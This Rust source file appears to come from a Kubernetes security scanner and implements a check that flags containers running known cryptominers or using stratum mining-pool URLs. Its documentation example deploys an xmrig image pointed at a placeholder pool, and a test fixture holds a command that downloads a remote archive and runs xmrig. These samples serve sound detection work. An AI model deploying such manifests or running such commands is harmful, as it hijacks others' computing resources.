//! PAL-K8S-032: a container runs a known cryptocurrency miner or talks to a mining pool.

use super::util::images::ImageRef;
use super::util::text;
use super::util::words::find_word;
use crate::checks::{Check, Reporter, Run};
use crate::k8s::Workload;
use crate::spot::Cursor;
use palisade_core::{CheckInfo, CheckTarget, Severity};

pub(crate) const CHECK: Check = Check {
    info: CheckInfo {
        id: "PAL-K8S-032",
        name: "known-miner-image",
        title: "Known cryptominer",
        severity: Severity::Critical,
        techniques: &["T1496.001", "T1204.003"],
        target: CheckTarget::Workload,
        rationale: "Cryptomining is what most attackers do first with a compromised cluster or \
            stolen deploy credentials: they schedule containers that burn the cluster's CPU and \
            GPU for their own wallet (Compute Hijacking), usually from public miner images \
            (Malicious Image). An image named after a well-known miner (XMRig, xmr-stak, \
            cpuminer, lolMiner, T-Rex...), a command that starts one, or a `stratum+tcp://` \
            pool URL in the arguments or environment is a strong sign that the manifest was \
            planted, or that a legitimate-looking workload carries a miner.",
        remediation: "Treat it as an incident: find out who created the workload and how \
            (audit logs), delete it, rotate the credentials involved and review RBAC. If \
            mining is intended, run it in a separate, clearly owned cluster or namespace and \
            suppress this finding there.",
        bad_example: r#"apiVersion: apps/v1
kind: ReplicaSet
metadata: {name: kube-metrics-helper}
spec:
  selector: {matchLabels: {app: helper}}
  template:
    metadata: {labels: {app: helper}}
    spec:
      containers:
        - name: helper
          image: docker.io/someuser/xmrig:6.21.0
          args: ["-o", "stratum+tcp://pool.example.net:3333", "--donate-level", "1"]
"#,
        good_example: r#"apiVersion: apps/v1
kind: ReplicaSet
metadata: {name: kube-metrics-helper}
spec:
  selector: {matchLabels: {app: helper}}
  template:
    metadata: {labels: {app: helper}}
    spec:
      containers:
        - name: helper
          image: registry.k8s.io/metrics-server/metrics-server:v0.7.2
          args: ["--kubelet-preferred-address-types=InternalIP"]
"#,
    },
    run: Run::Workload(run),
};

/// Miner names, matched as whole words (`cgminer` does not contain `gminer`).
const MINERS: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "minerd",
    "cpuminer",
    "cgminer",
    "bfgminer",
    "ethminer",
    "nbminer",
    "lolminer",
    "phoenixminer",
    "nanominer",
    "srbminer",
    "teamredminer",
    "gminer",
    "ccminer",
    "nheqminer",
    "t-rex",
];

/// Names too common outside mining to match inside longer text: they count only as a whole
/// image path component or as the executable a command runs (`t-rex-runner` is a game).
const AMBIGUOUS: &[&str] = &["t-rex"];

/// The miner named by a piece of free text (an image repository, a command line).
fn miner_in(text: &str) -> Option<&'static str> {
    MINERS.iter().copied().find(|miner| {
        if AMBIGUOUS.contains(miner) {
            text.split(|c: char| c.is_whitespace() || "\"';&|()`".contains(c))
                .filter_map(|token| token.rsplit('/').next())
                .any(|token| token.eq_ignore_ascii_case(miner))
        } else {
            find_word(text, miner).is_some()
        }
    })
}

/// The scheme of a mining-pool URL in `text` (`stratum+tcp://`, `stratum2+ssl://`,
/// `stratum+tls://`...), lower-cased.
fn pool_url_in(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    lower.match_indices("stratum").find_map(|(i, _)| {
        let after = &lower[i + "stratum".len()..];
        let version = after.chars().next().filter(char::is_ascii_digit);
        let rest = &after[version.map_or(0, |_| 1)..];
        let transport = ["+tcp://", "+ssl://", "+tls://"]
            .into_iter()
            .find(|t| rest.starts_with(t))?;
        let version = version.map(String::from).unwrap_or_default();
        Some(format!("stratum{version}{transport}"))
    })
}

/// What a piece of text reveals, for the message.
fn judge(text: &str) -> Option<String> {
    if let Some(scheme) = pool_url_in(text) {
        return Some(format!("points to a mining pool (`{scheme}`)"));
    }
    miner_in(text).map(|miner| format!("runs the cryptominer `{miner}`"))
}

fn run(workload: &Workload<'_>, out: &mut Reporter<'_>) {
    for container in workload.containers() {
        let label = container.label();
        if let Some(image) = container.image()
            && let Some(reference) = text(&image)
        {
            let repository = ImageRef::parse(reference).repository;
            if let Some(miner) = miner_in(repository) {
                out.report(
                    image.spot(),
                    format!(
                        "{label} uses image `{reference}`, named after the cryptominer `{miner}`"
                    ),
                );
            }
        }
        let mut texts: Vec<(Cursor<'_>, &str)> = Vec::new();
        for field in ["command", "args"] {
            if let Some(list) = container.cursor.get(field) {
                texts.extend(list.items().map(|item| (item, field)));
            }
        }
        if let Some(env) = container.cursor.get("env") {
            texts.extend(
                env.items()
                    .filter_map(|var| var.get("value"))
                    .map(|value| (value, "environment")),
            );
        }
        for (cursor, field) in texts {
            if let Some(found) = text(&cursor).and_then(judge) {
                out.report(cursor.spot(), format!("{label}: its {field} {found}"));
                // One finding per container for its command line is enough.
                break;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{CHECK, miner_in, pool_url_in};
    use crate::checks::k8s::util::testing::findings;

    #[test]
    fn miner_names_match_on_word_boundaries() {
        assert_eq!(miner_in("metal3d/xmrig"), Some("xmrig"));
        assert_eq!(miner_in("XMRig-CUDA"), Some("xmrig"));
        assert_eq!(miner_in("/opt/cgminer/cgminer --url x"), Some("cgminer"));
        assert_eq!(miner_in("someone/srbminer-multi"), Some("srbminer"));
        assert_eq!(miner_in("acme/minerdashboard"), None);
        assert_eq!(miner_in("acme/cgminers"), None);
        assert_eq!(miner_in("library/nginx"), None);
        assert_eq!(miner_in("./t-rex -a ethash"), Some("t-rex"));
        assert_eq!(miner_in("games/t-rex"), Some("t-rex"));
        assert_eq!(miner_in("games/t-rex-runner"), None);
        assert_eq!(miner_in("echo a t-rex-like dinosaur"), None);
    }

    #[test]
    fn pool_urls() {
        assert_eq!(
            pool_url_in("-o stratum+tcp://pool:3333").as_deref(),
            Some("stratum+tcp://")
        );
        assert_eq!(
            pool_url_in("STRATUM+SSL://pool:443").as_deref(),
            Some("stratum+ssl://")
        );
        assert_eq!(
            pool_url_in("stratum2+tcp://x").as_deref(),
            Some("stratum2+tcp://")
        );
        assert_eq!(pool_url_in("the stratum layer").as_deref(), None);
        assert_eq!(pool_url_in("stratum+http://x").as_deref(), None);
    }

    #[test]
    fn command_args_and_env_are_searched() {
        let yaml = r#"apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
    - name: a
      image: alpine:3.20
      command: ["sh", "-c", "wget -q http://x/y.tgz && ./xmrig --config c.json"]
    - name: b
      image: alpine:3.20
      env:
        - {name: POOL, value: "stratum+ssl://pool.example.net:443"}
    - name: c
      image: alpine:3.20
      command: ["sh", "-c", "echo miner"]
"#;
        let found = findings(&CHECK, yaml);
        assert_eq!(
            found,
            [
                (
                    "/spec/containers/0/command/2".to_owned(),
                    "container `a`: its command runs the cryptominer `xmrig`".to_owned()
                ),
                (
                    "/spec/containers/1/env/0/value".to_owned(),
                    "container `b`: its environment points to a mining pool (`stratum+ssl://`)"
                        .to_owned()
                ),
            ]
        );
    }
}
